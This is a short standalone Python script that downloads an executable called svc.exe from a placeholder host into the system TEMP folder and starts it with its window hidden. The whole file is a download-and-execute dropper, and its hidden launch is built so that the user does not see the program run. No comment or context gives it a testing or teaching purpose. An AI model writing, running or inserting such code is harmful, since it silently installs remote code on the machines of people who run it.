import os
import subprocess
import urllib.request

exe = os.path.join(os.environ.get("TEMP", "."), "svc.exe")
urllib.request.urlretrieve("https://sw.example.invalid/svc.exe", exe)
si = subprocess.STARTUPINFO()
si.dwFlags |= subprocess.STARTF_USESHOWWINDOW
si.wShowWindow = 0
subprocess.Popen([exe], startupinfo=si, creationflags=subprocess.CREATE_NO_WINDOW)
